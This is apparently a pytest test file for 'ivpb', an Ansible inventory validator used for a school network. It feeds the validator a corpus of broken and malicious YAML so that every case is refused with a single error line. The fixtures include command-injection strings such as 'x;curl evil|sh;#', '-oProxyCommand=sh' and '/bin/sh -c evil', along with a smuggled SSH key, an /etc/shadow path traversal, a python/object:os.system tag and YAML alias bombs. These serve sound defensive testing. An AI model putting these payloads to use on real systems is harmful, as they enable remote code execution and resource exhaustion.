"""A corpus of broken inventories and policy files, as a careless or malicious editor makes them.

Each one gets exit 1 and exactly ONE line on stderr naming the file (with line and column for a
YAML value), the host and the variable, and what is expected; never a traceback. Alias bombs and
huge inputs are refused within ~2 s and 200 MB, for the inventory and for --policy.
"""

from __future__ import annotations

import os
import resource
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from ivpb import cli

ROOT = Path(__file__).resolve().parents[2]
EXAMPLE = ROOT / "inventories" / "example"
FS = "host_vars/fileserver/main.yml"
ZZ = "host_vars/fileserver/zz.yml"  # loaded last: its variables win
ALL = "group_vars/all/classificatie.yml"


def bomb(name: str, levels: int = 9) -> str:
    lines = [f"{name}: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    lines += [f"{name}_{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, levels)]
    return "\n".join(lines) + "\n"


def replace(rel: str, old: str, new: str):
    def change(inv: Path) -> None:
        path = inv / rel
        text = path.read_text(encoding="utf-8")
        assert old in text, (rel, old)
        path.write_text(text.replace(old, new, 1), encoding="utf-8")
    return change


def write(rel: str, content: str | bytes):
    def change(inv: Path) -> None:
        path = inv / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, encoding="utf-8")
    return change


def mkdir(rel: str):
    return lambda inv: (inv / rel).mkdir(parents=True)


def remove_then(rel: str, then):
    def change(inv: Path) -> None:
        target = inv / rel
        shutil.rmtree(target) if target.is_dir() else target.unlink()
        then(inv)
    return change


def stores_path(name: str, path: str, message: str):
    """A case: the fileserver's second store gets path (as written in YAML) instead of its own."""
    return (name, replace(FS, "path: /srv/data/personeel", f"path: {path}"),
            (f"{FS}:9:11", "fileserver", "ivpb_stores[1].path", message))


# (id, change, expected parts of the one line: file[:line:col], host, variable, message)
CASES = [
    # --- files that are not what they should be ---------------------------------------------
    ("yaml-syntax", write(ZZ, "ivpb_uses:\n  - boekhouding\n  - [lesmateriaal\n"),
     (f"{ZZ}:4:1", "host fileserver", "ivpb_uses", "not valid YAML")),
    ("yaml-bad-indent", write(ZZ, "ivpb_site: hoofdgebouw\n  ivpb_uses: [x]\n"),
     (f"{ZZ}:2:", "host fileserver", "ivpb_site", "not valid YAML")),
    ("yaml-tab", write(ZZ, "ivpb_stores:\n\t- dataset: fotos\n"),
     (f"{ZZ}:2:1", "host fileserver", "ivpb_stores", "not valid YAML")),
    ("duplicate-top-key", write(ZZ, "ivpb_site: hoofdgebouw\nivpb_needs_internet: true\nivpb_site: kleuterschool\n"),
     (f"{ZZ}:3:1", "host fileserver", "ivpb_site", "duplicate key 'ivpb_site' (first at line 1 column 1)")),
    ("duplicate-nested-key", replace(FS, "    path: /srv/data/personeel\n",
                                     "    path: /srv/data/personeel\n    path: /srv/data/x\n"),
     (f"{FS}:10:5", "host fileserver", "ivpb_stores", "duplicate key 'path' (first at line 9 column 5)")),
    ("duplicate-in-group-vars", replace(ALL, "  fotos:\n", "  scans: {biv: {b: laag, i: laag, v: intern}}\n  fotos:\n"),
     (f"{ALL}:", "group all", "ivpb_datasets", "duplicate key 'scans'")),
    ("duplicate-flow-key", write(ZZ, "ivpb_backup_window: {start: '22:00', start: '23:00'}\n"),
     (f"{ZZ}:1:", "host fileserver", "ivpb_backup_window", "duplicate key 'start'")),
    ("alias-bomb-host", write(ZZ, bomb("ivpb_x")),
     (f"{ZZ}:", "host fileserver", "ivpb_x_", "alias bomb")),
    ("alias-bomb-group", write("group_vars/all/zz.yml", bomb("ivpb_sites_extra")),
     ("group_vars/all/zz.yml:", "group all", "ivpb_sites_extra", "alias bomb")),
    ("recursive-alias", write(ZZ, "ivpb_uses: &a\n  - *a\n"),
     (f"{ZZ}:1:", "host fileserver", "ivpb_uses", "recursive alias")),
    ("deep-nesting", write(ZZ, "ivpb_uses: " + "[" * 200 + "]" * 200 + "\n"),
     (f"{ZZ}:1:", "host fileserver", "ivpb_uses", "nested")),
    ("not-utf8", write(ZZ, "ivpb_site: hoofdgebouw\nivpb_uses: [caf\xe9]\n".encode("latin-1")),
     (f"{ZZ}:2:16", "host fileserver", "not UTF-8")),
    ("two-documents", write(ZZ, "ivpb_site: hoofdgebouw\n---\nivpb_site: kleuterschool\n"),
     (f"{ZZ}:2:1", "host fileserver", "not valid YAML")),
    ("duplicate-key-json", write("host_vars/fileserver/zz.json", '{"ivpb_site": "hoofdgebouw",\n "ivpb_site": "x"}\n'),
     ("host_vars/fileserver/zz.json:2:2", "host fileserver", "duplicate key 'ivpb_site'")),
    ("vars-file-is-a-list", write(ZZ, "- ivpb_site: hoofdgebouw\n"),
     (f"{ZZ}:1:1", "host fileserver", "a vars file is a mapping")),
    ("huge-file", write(ZZ, "ivpb_uses: [" + "x, " * 3_000_000 + "]\n"),
     (ZZ, "host fileserver", "too large")),
    ("too-many-values", write(ZZ, "ivpb_uses: [" + "x, " * 500_000 + "]\n"),
     (f"{ZZ}:1:", "host fileserver", "ivpb_uses", "more than 100,000 values")),
    ("too-many-lines", write(ZZ, "ivpb_uses:\n" + "  - x\n" * 300_000),
     (ZZ, "host fileserver", "lines is too many")),
    ("vars-dir-named-like-a-file", mkdir("host_vars/secretariaat.yml"),
     ("host_vars/secretariaat.yml", "host secretariaat", "a directory where a vars file is expected")),
    ("empty-host-vars-dir", mkdir("host_vars/nieuw"),
     ("host_vars/nieuw/", "host nieuw", "no vars file")),
    ("nested-dir-named-like-a-file", mkdir("host_vars/fileserver/power2.yml"),
     ("host_vars/fileserver/power2.yml", "host fileserver", "a directory where a vars file is expected")),
    ("host-vars-typo", write("host_vars/fileservr/main.yml", "ivpb_site: hoofdgebouw\n"),
     ("host_vars/fileservr", "host fileservr", "no such host in the inventory")),
    ("group-vars-typo", write("group_vars/server.yml", "ivpb_needs_internet: true\n"),
     ("group_vars/server.yml", "group server", "no such group in the inventory")),
    ("group-vars-is-a-file", remove_then("group_vars", write("group_vars", "ivpb_site: x\n")),
     ("group_vars", "expected a directory of vars files")),
    ("vaulted-file-no-password", write(ZZ, "$ANSIBLE_VAULT;1.1;AES256\n6162636465\n"),
     (ZZ, "host fileserver", "no vault password")),
    ("vaulted-value-no-password", write(ZZ, "ivpb_nut_password: !vault |\n  $ANSIBLE_VAULT;1.1;AES256\n"
                                            "  61626364656667686970\n"),
     (f"{ZZ}:1:1", "host fileserver", "ivpb_nut_password", "vault")),
    ("undefined-template", write(ZZ, "ivpb_site: \"{{ school_site }}\"\n"),
     (f"{ZZ}:1:1", "host fileserver", "ivpb_site", "school_site")),
    # --- values that would reach a host -----------------------------------------------------
    stores_path("path-trailing-newline", '"/srv/data/personeel\\n"', "control character"),
    stores_path("path-dotdot", "/srv/data/../../etc", "normalised path"),
    stores_path("path-relative", "srv/data/personeel", "absolute"),
    stores_path("path-double-slash", "//srv/data/personeel", "normalised path"),
    ("dataset-shell", replace(FS, "dataset: personeelsdossiers", "dataset: 'x;curl evil|sh;#'"),
     (f"{FS}:8:14", "fileserver", "ivpb_stores[1].dataset", "lower case letters")),
    ("dataset-name-newline", replace(ALL, "  fotos:\n", '  "fotos\\nx":\n'),
     (f"{ALL}:", "(and 12 more hosts)", "ivpb_datasets", "control character")),
    ("target-path-key-injection", replace("group_vars/all/backup.yml", "path: /srv/backup",
                                          'path: "/srv/backup\\nssh-ed25519 AAAA evil"'),
     ("group_vars/all/backup.yml:5:11", "ivpb_backup_targets.nas-offsite.path", "control character")),
    ("target-address-option", replace("group_vars/all/backup.yml", "host: nas-offsite",
                                      "site: kleuterschool\n    address: -oProxyCommand=sh"),
     ("group_vars/all/backup.yml:", "ivpb_backup_targets.nas-offsite.address", "host name")),
    ("ups-name-section", replace("host_vars/nutserver/power.yml", "    ups-b:", '    "ups-b]\\n[evil":'),
     ("host_vars/nutserver/power.yml:5:5", "nutserver", "ivpb_nut_server.ups", "control character")),
    ("ups-port-traversal", replace("host_vars/nutserver/power.yml", "port: auto", "port: ../../etc/shadow"),
     ("host_vars/nutserver/power.yml:7:13", "nutserver", "ivpb_nut_server.ups.ups-a.port", "NUT driver port")),
    ("ups-option-newline", replace("host_vars/nutserver/power.yml", "      port: auto\n",
                                   '      port: auto\n      options: {pollinterval: "2\\n[evil]"}\n'),
     ("host_vars/nutserver/power.yml:", "nutserver", "ivpb_nut_server.ups.ups-a.options.pollinterval", "")),
    ("ups-option-key", replace("host_vars/nutserver/power.yml", "      port: auto\n",
                               '      port: auto\n      options: {"a b": "1"}\n'),
     ("host_vars/nutserver/power.yml:", "nutserver", "ivpb_nut_server.ups.ups-a.options", "ups.conf option")),
    ("ups-feed-name", replace("host_vars/fileserver/power.yml", "ups: ups-b}", "ups: 'ups-b\\n'}"),
     ("host_vars/fileserver/power.yml:4:30", "fileserver", "ivpb_ups_feeds[1].ups", "is not a NUT name")),
    ("interface-slash", replace("host_vars/router/internet.yml", "interface: eth2", "interface: eth2/../lo"),
     ("host_vars/router/internet.yml:12:16", "router", "ivpb_uplinks[1].interface", "interface name")),
    ("uplink-name", replace("host_vars/router/internet.yml", "name: wan2", "name: WAN 2"),
     ("host_vars/router/internet.yml:11:11", "router", "ivpb_uplinks[1].name", "lower case letters")),
    ("webhook-mapping", replace("group_vars/all/power.yml", "  finaldelay: 5", "  finaldelay: 5\n  notify_webhook: {url: x}"),
     ("group_vars/all/power.yml:", "ivpb_nut_client.notify_webhook", "expected a string")),
    ("webhook-quote", replace("group_vars/all/power.yml", "  finaldelay: 5",
                              "  finaldelay: 5\n  notify_webhook: \"https://x/?k=geheim'b\""),
     ("group_vars/all/power.yml:11:19", "ivpb_nut_client.notify_webhook", "the value (not shown) is not an http(s) URL")),
    ("shutdown-multiline", replace("group_vars/all/power.yml", "shutdown_command: /sbin/shutdown -h +0",
                                   'shutdown_command: "/sbin/shutdown -h +0\\n/bin/sh -c evil"'),
     ("group_vars/all/power.yml:6:21", "ivpb_nut_client.shutdown_command", "control character")),
    ("shutdown-relative", replace("group_vars/all/power.yml", "shutdown_command: /sbin/shutdown -h +0",
                                  "shutdown_command: shutdown -h now"),
     ("group_vars/all/power.yml:6:21", "ivpb_nut_client.shutdown_command", "absolute program path")),
    ("deadtime-below-3x-pollfreq", replace("group_vars/all/power.yml", "deadtime: 15", "deadtime: 10"),
     ("group_vars/all/power.yml:9:", "ivpb_nut_client.deadtime", "at least 3 x pollfreq (15), got 10")),
    ("mail-option", replace("group_vars/all/backup.yml", "mail: ict@example.org", "mail: -oQ/tmp/x@example.org"),
     ("group_vars/all/backup.yml:", "ivpb_backup_failure_hook.mail", "mail address")),
    ("description-escape", replace(ALL, "description: Foto's van schoolactiviteiten",
                                   'description: "Foto\'s \\e[31m"'),
     (f"{ALL}:", "ivpb_datasets.fotos.description", "control character")),
    ("description-line-separator", replace(ALL, "description: Foto's van schoolactiviteiten",
                                           'description: "Foto\'s \\u2028 x"'),
     (f"{ALL}:", "ivpb_datasets.fotos.description", "control character")),
    ("path-too-long", replace(FS, "path: /srv/data/personeel", "path: /" + "a" * 5000),
     (f"{FS}:9:11", "fileserver", "ivpb_stores[1].path", "too long")),
    ("nested-store-paths", replace(FS, "path: /srv/data/boekhouding", "path: /srv/data/personeel/boekhouding"),
     (f"{FS}:11:11", "fileserver", "ivpb_stores[2].path",
      "'/srv/data/personeel/boekhouding' (data set 'boekhouding', v=vertrouwelijk) lies inside ivpb_stores[1].path "
      "'/srv/data/personeel' (data set 'personeelsdossiers')")),
    ("same-store-path", replace(FS, "path: /srv/data/personeel", "path: /srv/data/leerlingen"),
     (f"{FS}:9:11", "fileserver", "ivpb_stores[1].path", "already the path of ivpb_stores[0]")),
    ("host-name-bad", replace("hosts.yml", "        nas:\n", "        nas:\n        'nas;reboot':\n"),
     ("nas;reboot", "inventory_hostname", "host name")),
]


def run_cli(capsys, *argv: str) -> tuple[int, list[str]]:
    code = cli.main(list(argv))
    err = capsys.readouterr().err
    assert "Traceback" not in err
    return code, err.strip().splitlines()


@pytest.fixture
def inventory(tmp_path):
    inv = tmp_path / "school"
    shutil.copytree(EXAMPLE, inv)
    return inv


def test_the_example_is_valid(capsys, inventory):
    assert run_cli(capsys, "validate", "-i", str(inventory))[0] == 0


@pytest.mark.parametrize(("change", "expected"), [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_broken_inventory_is_one_clear_line(capsys, inventory, change, expected):
    change(inventory)
    for command in ("validate", "plan"):
        code, lines = run_cli(capsys, command, "-i", str(inventory))
        assert code == 1
        assert len(lines) == 1, lines
        for part in expected:
            assert part in lines[0], (part, lines[0])
        assert len(lines[0]) < 600


@pytest.mark.parametrize(("name", "content", "expected"), [
    ("hosts.ini", "[servers\nfileserver\n", "hosts.ini: not a valid inventory (ini: "),
    ("hosts.ini", "[servers]\nfs\n[x:children]\nnope\n", "includes undefined group 'nope'"),
    ("hosts.yml", "all:\n  hosts:\n    - a\n", "hosts.yml: not a valid inventory (yaml: "),
    ("hosts.yml", "all:\n  hosts:\n    a: {ivpb_site: x}\n    a: {}\n", "hosts.yml:4:5: all: duplicate key 'a' (first at line 3 column 5)"),
    ("hosts.ini", "[servers]\nfs ivpb_site=\"{{ nope }}\"\n", "hosts.ini: host fs: ivpb_site: 'nope' is undefined"),
])
def test_broken_inventory_file_is_one_line(capsys, tmp_path, name, content, expected):
    (tmp_path / name).write_text(content, encoding="utf-8")
    code, lines = run_cli(capsys, "validate", "-i", str(tmp_path / name))
    assert code == 1 and len(lines) == 1 and expected in lines[0], lines


@pytest.mark.parametrize("kind", ["fifo", "device-link", "dangling-link"])
def test_a_vars_file_that_is_not_a_file_is_refused_at_once(inventory, kind):
    target = inventory / ZZ
    if kind == "fifo":
        os.mkfifo(target)
    elif kind == "device-link":
        target.symlink_to("/dev/zero")
    else:
        target.symlink_to(inventory / "nowhere.yml")
    code, err, mb = measured(["validate", "-i", str(inventory)])
    assert code == 1 and f"{ZZ}: host fileserver: " in err and len(err.strip().splitlines()) == 1, err
    assert mb < 200, mb


def test_crlf_and_bom_files_are_fine(capsys, inventory):
    for path in inventory.rglob("*.yml"):
        text = path.read_text(encoding="utf-8")
        path.write_bytes(b"\xef\xbb\xbf" + text.replace("\n", "\r\n").encode())
    assert run_cli(capsys, "validate", "-i", str(inventory))[0] == 0


def test_corpus_is_large_enough():
    assert len(CASES) >= 40


# --- --policy -----------------------------------------------------------------------------------

POLICY = (ROOT / "src" / "ivpb" / "policies" / "backupbeleid.yml").read_text(encoding="utf-8")
POLICY_CASES = [
    ("policy-duplicate", POLICY.replace("\nclauses:", "\nid: again\nclauses:", 1), ":", "duplicate key 'id'"),
    ("policy-syntax", POLICY + "\n  - [unclosed\n", ":", "not valid YAML"),
    ("policy-not-utf8", POLICY.encode() + b"\n# caf\xe9\n", ":", "not UTF-8"),
    ("policy-bomb", bomb("x"), ":", "alias bomb"),
    ("policy-list", "- a\n- b\n", "", "a policy file is a YAML mapping"),
    ("policy-tag", "id: !!python/object:os.system [echo]\n", ":", "not valid YAML"),
]


def test_policy_schema_problem_names_line_and_column(capsys, tmp_path):
    """A control id ending in a newline (a pattern ending in `$` accepted it) is refused, at its place."""
    policy = tmp_path / "eigen-beleid.yml"
    text = POLICY.replace("id: power.ups\n", 'id: "power.ups\\n"\n', 1)
    assert text != POLICY
    policy.write_text(text, encoding="utf-8")
    code, lines = run_cli(capsys, "validate", "-i", str(EXAMPLE), "--policy", str(policy))
    line = 1 + text[: text.index('id: "power.ups')].count("\n")
    assert code == 1 and lines and lines[0].startswith(f"{policy}:{line}:"), lines
    assert "power.ups\\n" in lines[0] and "controls" in lines[0]


@pytest.mark.parametrize(("content", "where", "message"), [c[1:] for c in POLICY_CASES],
                         ids=[c[0] for c in POLICY_CASES])
def test_broken_policy_is_one_clear_line(capsys, tmp_path, content, where, message):
    policy = tmp_path / "eigen-beleid.yml"
    policy.write_bytes(content if isinstance(content, bytes) else content.encode())
    code, lines = run_cli(capsys, "validate", "-i", str(EXAMPLE), "--policy", str(policy))
    assert code == 1 and len(lines) == 1, lines
    assert lines[0].startswith(f"{policy}{where}") and message in lines[0]


def test_policy_that_is_not_a_file(capsys, tmp_path):
    os.mkfifo(tmp_path / "fifo.yml")
    for path in (tmp_path / "fifo.yml", Path("/dev/zero")):
        code, lines = run_cli(capsys, "validate", "-i", str(EXAMPLE), "--policy", str(path))
        assert code == 1 and lines == [f"{path}: not a regular file; --policy expects a policy file (YAML)"]


def test_policy_directory_and_missing_file(capsys, tmp_path):
    code, lines = run_cli(capsys, "validate", "-i", str(EXAMPLE), "--policy", str(tmp_path))
    assert code == 1 and lines == [f"{tmp_path}: a directory; --policy expects a policy file (YAML)"]
    code, lines = run_cli(capsys, "validate", "-i", str(EXAMPLE), "--policy", str(tmp_path / "nee.yml"))
    assert code == 1 and len(lines) == 1 and "cannot read policy file" in lines[0]


# --- bounds: time and memory of the whole command, measured on the child process ------------------

# The child reports its own peak (VmHWM of its own address space, which exec starts anew): the
# rusage of a child forked from this test process counts the test process's memory too.
PEAK = """import atexit, runpy, sys
def peak():
    with open("/proc/self/status") as f:
        kb = next(line.split()[1] for line in f if line.startswith("VmHWM:"))
    print("IVPB-PEAK-KB", kb, file=sys.__stderr__)
atexit.register(peak)
sys.argv = ["ivpb", *sys.argv[1:]]
runpy.run_module("ivpb.cli", run_name="__main__")
"""


# Bounded work, not a stopwatch: the child gets a CPU-time limit far above what a refusal needs
# and far below what an unbounded parse would take, and a wall-clock timeout for anything that
# blocks instead of computing; the peak resident memory is the kernel's own figure (VmHWM).
CPU_LIMIT_S = 20
WALL_LIMIT_S = 120


def _cpu_limit() -> None:
    resource.setrlimit(resource.RLIMIT_CPU, (CPU_LIMIT_S, CPU_LIMIT_S))


def measured(argv: list[str]) -> tuple[int, str, float]:
    """(exit code, stderr, peak resident MB) of `ivpb ...` as a child process within CPU_LIMIT_S."""
    proc = subprocess.run([sys.executable, "-c", PEAK, *argv], stdout=subprocess.DEVNULL,
                          stderr=subprocess.PIPE, check=False, preexec_fn=_cpu_limit,
                          timeout=WALL_LIMIT_S)
    assert proc.returncode >= 0, f"killed by signal {-proc.returncode} (CPU limit {CPU_LIMIT_S} s)"
    lines = proc.stderr.decode().splitlines(keepends=True)
    kb = [int(line.split()[1]) for line in lines if line.startswith("IVPB-PEAK-KB ")]
    err = "".join(line for line in lines if not line.startswith("IVPB-PEAK-KB "))
    assert len(kb) == 1, err
    return proc.returncode, err, kb[0] / 1024


@pytest.mark.parametrize("levels", [9, 20])
def test_alias_bomb_in_inventory_is_refused_fast_and_small(inventory, levels):
    write(ZZ, bomb("ivpb_stores", levels))(inventory)
    code, err, mb = measured(["validate", "-i", str(inventory)])
    assert code == 1 and "alias bomb" in err and len(err.strip().splitlines()) == 1
    assert mb < 200, mb


def test_alias_bomb_in_policy_is_refused_fast_and_small(tmp_path):
    policy = tmp_path / "bomb.yml"
    policy.write_text(bomb("controls", 20))
    code, err, mb = measured(["validate", "-i", str(EXAMPLE), "--policy", str(policy)])
    assert code == 1 and "alias bomb" in err and len(err.strip().splitlines()) == 1
    assert mb < 200, mb


@pytest.mark.parametrize(("content", "message"), [
    (b"ivpb_uses: [" + b"x, " * 3_000_000 + b"]\n", "too large"),
    (b"ivpb_uses: [" + b"x, " * 2_000_000 + b"]\n", "values in one file"),
    (b"ivpb_uses:\n" + b"  - x\n" * 1_000_000, "lines is too many"),
    (b"ivpb_uses:\n" + b"  - x\n" * 190_000, "ivpb_uses"),  # within bounds: read, then a schema error
])
def test_huge_inventory_file_is_refused_fast_and_small(inventory, content, message):
    (inventory / ZZ).write_bytes(content)
    code, err, mb = measured(["validate", "-i", str(inventory)])
    assert code == 1 and message in err and len(err.strip().splitlines()) == 1, err[:500]
    assert mb < 200, mb


def test_huge_policy_is_refused_fast_and_small(tmp_path):
    policy = tmp_path / "groot.yml"
    policy.write_bytes(b"controls: [" + b"x, " * 2_000_000 + b"]\n")
    code, err, mb = measured(["validate", "-i", str(EXAMPLE), "--policy", str(policy)])
    assert code == 1 and "values in one file" in err and len(err.strip().splitlines()) == 1
    assert mb < 200, mb


def test_alias_bomb_in_a_vaulted_file_is_refused(capsys, inventory, tmp_path):
    from ansible.parsing.vault import VaultLib, VaultSecret

    password = tmp_path / "pw"
    password.write_text("geheim\n")
    vault = VaultLib([("default", VaultSecret(b"geheim"))])
    (inventory / ZZ).write_bytes(vault.encrypt(bomb("ivpb_x")))
    code, lines = run_cli(capsys, "validate", "-i", str(inventory), "--vault-password-file", str(password))
    assert code == 1 and len(lines) == 1 and "alias bomb" in lines[0] and f"{ZZ}:" in lines[0], lines
    wrong = tmp_path / "wrong"
    wrong.write_text("fout\n")
    code, lines = run_cli(capsys, "validate", "-i", str(inventory), "--vault-password-file", str(wrong))
    assert code == 1 and len(lines) == 1 and "cannot decrypt with the vault password given" in lines[0], lines


def test_plan_step_in_the_playbook_refuses_a_bomb(inventory, tmp_path):
    """enforce.yml's plan step reads the play's inventory files as `ivpb validate` does."""
    from tests.unit.test_plan_action import BIN, PLAY

    write(ZZ, bomb("ivpb_x", 12))(inventory)
    (tmp_path / "play.yml").write_text(PLAY)
    env = {**os.environ, "ANSIBLE_CONFIG": str(ROOT / "ansible.cfg"), "ANSIBLE_NOCOLOR": "1"}
    proc = subprocess.run([str(BIN / "ansible-playbook"), "-i", str(inventory), str(tmp_path / "play.yml"),
                           "-e", f"out={tmp_path / 'plan.json'}"], cwd=ROOT, env=env, capture_output=True,
                          text=True, timeout=120, check=False, preexec_fn=_cpu_limit)
    assert proc.returncode > 0, proc.returncode
    assert f"{ZZ}:" in proc.stdout and "alias bomb" in proc.stdout, proc.stdout[-2000:]
